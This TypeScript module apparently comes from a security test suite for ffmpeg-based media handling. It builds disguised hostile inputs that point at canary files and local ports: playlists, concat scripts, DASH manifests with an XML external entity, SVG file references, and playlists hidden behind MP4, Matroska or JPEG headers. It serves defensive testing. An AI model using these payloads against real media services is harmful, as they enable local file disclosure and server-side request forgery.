import { hostiles, type Canary, type MakeBytes } from "../hostile.ts";
import { base, type Base } from "../bases.ts";
import { ascii, hex } from "../bytes/fields.ts";

type Names = (canary: Canary) => string;

/** Ways in which ffmpeg's protocols name something. */
const names: Readonly<Record<string, Names>> = {
  "an address": ({ url }) => url,
  "a file": ({ path }) => path,
  "a file by its protocol": ({ path }) => `file://${path}`,
  "a file in a concat name": ({ path, url }) => `concat:${path}|${url}`,
  "a part of a file": ({ path }) => `subfile,,start,0,end,100,,:${path}`,
  "a data name": ({ url }) =>
    `data:application/x-mpegurl;base64,${Buffer.from(`#EXTM3U\n#EXTINF:1,\n${url}\n`).toString("base64")}`,
  "an encrypted address": ({ url }) => `crypto+${url}`,
  "a cached address": ({ url }) => `cache:${url}`,
  "an address read ahead": ({ url }) => `async:${url}`,
  "a TCP address": ({ port }) => `tcp://127.0.0.1:${port}`,
  "an FTP address": ({ port }) => `ftp://127.0.0.1:${port}/canary`,
  "an RTMP address": ({ port }) => `rtmp://127.0.0.1:${port}/live/canary`,
  "an RTSP address": ({ port }) => `rtsp://127.0.0.1:${port}/canary`,
  "a Gopher address": ({ port }) => `gopher://127.0.0.1:${port}/canary`,
};

const playlist = (name: string): string =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${name}\n#EXT-X-ENDLIST\n`;
const script = (name: string): string => `ffconcat version 1.0\nfile '${name}'\n`;

function text(write: (canary: Canary) => string): MakeBytes {
  return (canary) => Buffer.from(write(canary));
}

const playlists = Object.fromEntries(
  Object.entries(names).flatMap(([what, name]) => [
    [`a playlist with ${what}`, text((canary) => playlist(name(canary)))],
    [`a concat script with ${what}`, text((canary) => script(name(canary)))],
  ]),
);

/** Other kinds of text that name files, and demuxers that follow them. */
const documents = {
  "a playlist with a key": text(
    ({ url }) => `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}"\n#EXTINF:1,\nx.ts\n`,
  ),
  "a playlist with an initialisation segment": text(
    ({ path }) => `#EXTM3U\n#EXT-X-MAP:URI="${path}"\n#EXTINF:1,\nx.m4s\n#EXT-X-ENDLIST\n`,
  ),
  "a master playlist": text(({ url }) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}\n`),
  "a playlist behind a byte order mark": text(({ url }) => `\ufeff${playlist(url)}`),
  "a playlist behind blank lines": text(({ url }) => `\r\n\r\n${playlist(url)}`),
  "a concat script without a version": text(({ path }) => `file '${path}'\nduration 5\n`),
  "a concat script with options": text(
    ({ url }) => `ffconcat version 1.0\nfile '${url}'\noption protocol_whitelist file,http,tcp\n`,
  ),
  "a DASH manifest": text(
    ({ url }) =>
      `<?xml version="1.0"?><MPD type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${url}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  ),
  "a DASH manifest with an entity": text(
    ({ path }) =>
      `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${path}">]><MPD><BaseURL>&x;</BaseURL></MPD>`,
  ),
  "a smooth streaming manifest": text(
    ({ url }) =>
      `<?xml version="1.0"?><SmoothStreamingMedia Duration="1"><StreamIndex Url="${url}"/></SmoothStreamingMedia>`,
  ),
  "a session description": text(
    ({ port }) =>
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
  ),
  "an IMF composition": text(
    ({ url }) =>
      `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:1</Id><Reel>${url}</Reel></CompositionPlaylist>`,
  ),
  "a picture in SVG": text(
    ({ path }) =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><image xlink:href="file://${path}" width="99" height="99"/></svg>`,
  ),
  "a filter script": text(({ path }) => `movie=${path}[out0];amovie=${path}[out1]\n`),
  "a file of metadata": text(() => `;FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=1\n`),
  "an ASX list": text(({ url }) => `<asx version="3.0"><entry><ref href="${url}"/></entry></asx>`),
  "a PLS list": text(({ url }) => `[playlist]\nFile1=${url}\nNumberOfEntries=1\n`),
  "a cue sheet": text(
    ({ path }) => `FILE "${path}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`,
  ),
  "an RTSP text": text(({ port }) => `RTSPtextrtsp://127.0.0.1:${port}/canary\r\n`),
  "a media link": text(
    ({ url }) =>
      `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="${url}"/>`,
  ),
  "a list of pictures": text(({ path }) => `${path}/%d.png\n`),
  "subtitles with pictures": text(
    ({ path }) =>
      `1\n00:00:00,000 --> 00:00:09,000\n<img src="${path}"><font face="${path}">x</font>\n`,
  ),
  "an index of VobSub": text(
    ({ path }) =>
      `# VobSub index file, v7 (do not modify this line!)\nlangidx: 0\nid: en, index: 0\n${path}\n`,
  ),
  "a text screen": () => Buffer.concat([hex("1b5b324a"), ascii("x".repeat(4000))]),
  "an XBin picture": () =>
    Buffer.concat([ascii("XBIN\x1a"), hex("ffff ffff 1000"), Buffer.alloc(4096, 0x41)]),
  "an Adobe FLI of nothing": () =>
    Buffer.concat([hex("ffffffff12af ffff ffff ffff"), Buffer.alloc(200)]),
} satisfies Record<string, MakeBytes>;

/** Beginnings of containers: what follows is a list that other demuxers know. */
const beginnings: Readonly<Record<string, Buffer>> = {
  MP4: hex("0000001c667479706d7034320000000069736f6d6d703431 00000000"),
  Matroska: hex("1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581 02"),
  AVI: ascii("RIFF\xff\xff\xff\x7fAVI LIST"),
  FLV: hex("464c5601050000000900000000"),
  Ogg: ascii("OggS\0\x02"),
  "an ID3 tag": hex("49443304000000000000"),
  GIF: ascii("GIF89a"),
  JPEG: hex("ffd8ffe000104a46494600010100000100010000"),
  WAVE: ascii("RIFF\x24\0\0\0WAVEfmt "),
};

const behind = Object.fromEntries(
  Object.entries(beginnings).flatMap(([what, bytes]) => [
    [
      `a playlist behind the beginning of ${what}`,
      (canary: Canary) => Buffer.concat([bytes, ascii(playlist(canary.url))]),
    ],
    [
      `a concat script behind the beginning of ${what}`,
      (canary: Canary) => Buffer.concat([bytes, ascii(script(canary.path))]),
    ],
  ]),
);

/** A film with a list at its end, which some players look for. */
const appended = Object.fromEntries(
  (["mp4", "mkv", "avi", "ts", "mp3"] as const satisfies readonly Base[]).map((name) => [
    `${name} with a playlist at its end`,
    async (canary: Canary) => Buffer.concat([await base(name), ascii(playlist(canary.url))]),
  ]),
);

/** Playlists and scripts that say that they are films. */
export const disguises = hostiles("disguise", {
  ...playlists,
  ...documents,
  ...behind,
  ...appended,
});
